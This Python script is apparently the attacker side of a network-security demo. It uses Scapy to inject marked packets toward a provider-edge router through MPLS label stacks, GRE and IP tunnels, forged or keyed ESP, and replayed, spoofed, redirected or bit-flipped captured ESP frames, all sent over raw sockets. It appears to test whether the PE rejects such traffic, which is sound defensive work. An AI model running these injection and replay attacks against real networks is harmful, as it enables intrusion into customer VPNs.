#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The attacker of the demo: builds frames with Scapy and sends them from a core router, or from a CE.

For each line of standard input, a JSON object, it prints {"sent": N}. Keys come that way too, never
as arguments. Frames carry a marker, by which a delivered one would be recognised behind the PE.
"""
import json
import os
import socket
import struct
import sys

from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from scapy.all import Ether, GRE, ICMP, IP, Raw, conf, rdpcap
from scapy.contrib.mpls import MPLS

ESP, MPLS_IN_IP = 50, 137


def customer_packet(job, number):
    """What the attacker wants delivered to the customer: an echo request with the marker."""
    return (
        IP(src=job["inner_src"], dst=job["inner_dst"], ttl=64)
        / ICMP(type=8, id=0x5EA1, seq=number)
        / Raw(job["marker"].encode())
    )


def labelled(job, number):
    packet = customer_packet(job, number)
    if "under" in job:
        return MPLS(label=job["label"], s=0, ttl=64) / MPLS(label=job["under"], s=1, ttl=64) / packet
    return MPLS(label=job["label"], s=1, ttl=64) / packet


def outer(job, protocol):
    return IP(src=job["outer_src"], dst=job["outer_dst"], proto=protocol, ttl=64, flags="DF")


def plain_mpls(job, link, n):
    return link(0x8847) / labelled(job, n)


def mpls_in_gre(job, link, n):
    return link(0x0800) / outer(job, 47) / GRE(proto=0x8847) / labelled(job, n)


def mpls_in_ip(job, link, n):
    return link(0x0800) / outer(job, MPLS_IN_IP) / Raw(bytes(labelled(job, n)))


def forged_esp(job, link, n):
    """Right addresses and SPI, a plausible sequence number, and no key."""
    header = struct.pack("!II", job["spi"], job["sequence"] + n)
    return link(0x0800) / outer(job, ESP) / Raw(header + os.urandom(8 + 128 + 16))


def inside(job, n):
    """Next header and payload of a keyed PE's packet: MPLS-in-GRE, or what its SA is not for."""
    if job.get("bare"):
        return 4, bytes(customer_packet(job, n))
    if job.get("unlabelled"):
        return 47, bytes(GRE(proto=0x0800) / customer_packet(job, n))
    return 47, bytes(GRE(proto=0x8847) / labelled(job, n))


def keyed_esp(job, link, n):
    """A correctly keyed PE's packet: RFC 4106."""
    key = bytes.fromhex(job["key"])
    sequence = job["sequence"] + n
    protocol, payload = inside(job, n)
    padding = -(len(payload) + 2) % 4
    payload += bytes(range(1, padding + 1)) + bytes([padding, protocol])
    header = struct.pack("!II", job["spi"], sequence)
    iv = struct.pack("!Q", sequence)
    sealed = AESGCM(key[:-4]).encrypt(key[-4:] + iv, payload, header)
    return link(0x0800) / outer(job, ESP) / Raw(header + iv + sealed)


def captured(job):
    """ESP frames of an SA from a capture, newest last."""
    wanted = struct.pack("!I", job["spi"])
    found = []
    for frame in rdpcap(job["capture"]):
        if IP in frame and frame[IP].proto == ESP and bytes(frame[IP].payload)[:4] == wanted:
            found.append(frame)
    return found[-job["count"] :]


def replayed(job):
    return captured(job)


def replayed_from_elsewhere(job):
    frames = captured(job)
    for frame in frames:
        frame[IP].src = job["outer_src"]
        del frame[IP].chksum
    return frames


def redirected(job):
    frames = captured(job)
    for frame in frames:
        frame[IP].dst = job["outer_dst"]
        del frame[IP].chksum
    return frames


def bit_flipped(job):
    """One bit changed: in the sequence number, so that it looks new."""
    frames = []
    for frame in captured(job):
        body = bytearray(bytes(frame[IP].payload))
        body[5] ^= 0x10
        frame[IP].remove_payload()
        frames.append(frame / Raw(bytes(body)))
    return frames


BUILD = {f.__name__: f for f in (plain_mpls, mpls_in_gre, mpls_in_ip, forged_esp, keyed_esp)}
REUSE = {f.__name__: f for f in (replayed, replayed_from_elsewhere, redirected, bit_flipped)}


def attack(job):
    def link(ethertype):
        return Ether(src=job["src_mac"], dst=job["dst_mac"], type=ethertype)

    if job["kind"] in REUSE:
        frames = REUSE[job["kind"]](job)
        for frame in frames:
            frame[Ether].src, frame[Ether].dst = job["src_mac"], job["dst_mac"]
    else:
        frames = [BUILD[job["kind"]](job, link, n) for n in range(job["count"])]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((job["interface"], 0))
        for frame in frames:
            wire.send(bytes(frame))
    return {"sent": len(frames)}


conf.verb = 0
for line in sys.stdin:
    print(json.dumps(attack(json.loads(line))), flush=True)
